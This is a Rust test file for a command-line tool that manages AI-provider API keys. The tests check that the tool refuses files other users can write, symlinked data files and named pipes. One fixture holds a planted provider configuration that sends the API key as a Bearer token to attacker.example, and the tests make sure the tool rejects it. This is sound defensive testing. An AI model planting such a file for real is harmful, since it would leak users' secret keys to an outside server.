//! Files that other users can change are refused: they decide where keys are sent.

use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt, chown, symlink};

use rstest::rstest;

use crate::home::Home;

const CONFIG: &str = ".config/umai";
const DATA: &str = ".local/share/umai";

/// Provider file that sends keys to another server.
const PLANTED: &str = r#"
id = "openai"
name = "OpenAI"
[[fields]]
key = "apiKey"
label = "API Key"
kind = "secret"
required = true
[probe]
method = "GET"
url = "https://attacker.example/models"
headers = { Authorization = "Bearer {apiKey}" }
"#;

fn set_mode(home: &Home, path: &str, mode: u32) {
    fs::set_permissions(home.path(path), fs::Permissions::from_mode(mode)).unwrap();
}

#[rstest]
#[case::config_folder(CONFIG, 0o777)]
#[case::config_file(".config/umai/config.toml", 0o666)]
#[case::key(".config/umai/umai.key", 0o660)]
#[case::data_folder(DATA, 0o770)]
fn file_that_others_can_write_is_refused_with_its_command(#[case] path: &str, #[case] mode: u32) {
    let home = Home::documented();
    home.write(".config/umai/config.toml", "theme = \"dark\"\n");
    set_mode(&home, path, mode);
    let shown = home.path(path).display().to_string();
    let command = format!("-w '{shown}'");
    let refused = home.run(&["connections", "list"]);
    assert_eq!(refused.code, 6, "{refused:?}");
    assert!(
        refused.err.contains("writable by other users"),
        "{refused:?}"
    );
    assert!(refused.err.contains(&command), "{refused:?}");
    let checked = home.run(&["doctor"]);
    assert_eq!(checked.code, 6, "{checked:?}");
    assert!(checked.out.contains(&command), "{checked:?}");
    let fixed = if home.path(path).is_dir() {
        0o700
    } else {
        0o600
    };
    set_mode(&home, path, fixed);
    assert_eq!(home.total(), 1);
}

#[rstest]
#[case::config_folder(CONFIG, 0o770)]
#[case::config_file(".config/umai/config.toml", 0o664)]
fn configuration_that_a_group_can_write_is_used(#[case] path: &str, #[case] mode: u32) {
    let home = Home::documented();
    home.write(".config/umai/config.toml", "read-only = true\n");
    set_mode(&home, CONFIG, 0o700);
    let key = home.path(".config/umai/umai.key");
    let kept = home.write("kept/umai.key", fs::read(&key).unwrap());
    set_mode(&home, "kept/umai.key", 0o600);
    set_mode(&home, path, mode);
    let kept = kept.to_str().unwrap();
    let refused = home.run(&[
        "--key-file",
        kept,
        "connections",
        "deactivate",
        "openai-prod",
    ]);
    assert_eq!(refused.code, 2, "the file was read: {refused:?}");
}

#[rstest]
#[case::others(0o602)]
#[case::group(0o620)]
fn planted_provider_is_refused(#[case] mode: u32) {
    let home = Home::documented();
    let planted = home.write(".config/umai/providers/openai.toml", PLANTED);
    let shown = planted.display().to_string();
    set_mode(&home, ".config/umai/providers", 0o700);
    set_mode(&home, ".config/umai/providers/openai.toml", mode);
    let answer = home.run(&["connections", "list"]);
    assert!(
        answer.err.contains(&format!("chmod go-w '{shown}'")),
        "{answer:?}"
    );
    let provider = home.run(&["providers", "show", "openai", "--json"]);
    assert!(!provider.out.contains("attacker"), "{provider:?}");
    assert!(home.run(&["doctor"]).out.contains("chmod go-w"));
}

#[test]
fn appsettings_that_others_can_write_give_a_warning() {
    let home = Home::documented();
    home.write("appsettings.json", r#"{"OpenAI":{"ApiKey":"sk-x"}}"#);
    set_mode(&home, "appsettings.json", 0o666);
    let listed = home.run(&["connections", "list"]);
    assert_eq!(listed.code, 0, "{listed:?}");
    assert!(
        listed
            .err
            .contains("appsettings.json is writable by other users"),
        "{listed:?}"
    );
}

#[rstest]
#[case::lock("lock")]
#[case::journal("journal")]
#[case::database("sled")]
fn link_in_data_folder_is_refused_and_its_target_kept(#[case] name: &str) {
    let home = Home::documented();
    let path = home.path(DATA).join(name);
    let is_folder = path.is_dir();
    let target = home.path("target");
    if is_folder {
        fs::rename(&path, &target).unwrap();
    } else {
        fs::remove_file(&path).unwrap();
        fs::write(&target, "precious").unwrap();
    }
    symlink(&target, &path).unwrap();
    let refused = home.run(&["connections", "list"]);
    assert_eq!(refused.code, 6, "{refused:?}");
    assert!(
        refused
            .err
            .contains(&format!("{} is a link", path.display())),
        "{refused:?}"
    );
    if !is_folder {
        assert_eq!(fs::read_to_string(&target).unwrap(), "precious");
    }
    let checked = home.run(&["doctor"]);
    assert_eq!(checked.code, 6, "{checked:?}");
    assert!(checked.out.contains("is a link"), "{checked:?}");
}

#[test]
fn linked_key_file_is_read_and_rotated_at_its_target() {
    let home = Home::documented();
    let link = home.path(".config/umai/umai.key");
    let target = home.path("secrets/umai.key");
    fs::create_dir(home.path("secrets")).unwrap();
    fs::rename(&link, &target).unwrap();
    symlink(&target, &link).unwrap();
    let before = fs::read(&target).unwrap();
    let rotated = home.run(&["key", "rotate"]);
    assert_eq!(rotated.code, 0, "{rotated:?}");
    assert!(link.is_symlink());
    assert_ne!(fs::read(&target).unwrap(), before);
    assert_eq!(home.total(), 1);
}

#[test]
fn named_pipe_as_key_file_is_refused() {
    let home = Home::documented();
    let pipe = home.path("pipe");
    let made = std::process::Command::new("mkfifo")
        .arg(&pipe)
        .status()
        .unwrap();
    assert!(made.success());
    let refused = home.run(&["--key-file", pipe.to_str().unwrap(), "connections", "list"]);
    assert_eq!(refused.code, 6, "{refused:?}");
    assert!(refused.err.contains("name a regular file"), "{refused:?}");
}

#[test]
fn root_refuses_files_of_another_user() {
    let home = Home::documented();
    if fs::metadata(home.path("")).unwrap().uid() != 0 {
        return;
    }
    for path in [DATA, ".config/umai/umai.key", CONFIG] {
        chown(home.path(path), Some(65_534), Some(65_534)).unwrap();
        let refused = home.run(&["connections", "list"]);
        assert_eq!(refused.code, 6, "{refused:?}");
        assert!(
            refused.err.contains("belongs to user ID 65534"),
            "{refused:?}"
        );
        chown(home.path(path), Some(0), Some(0)).unwrap();
    }
}
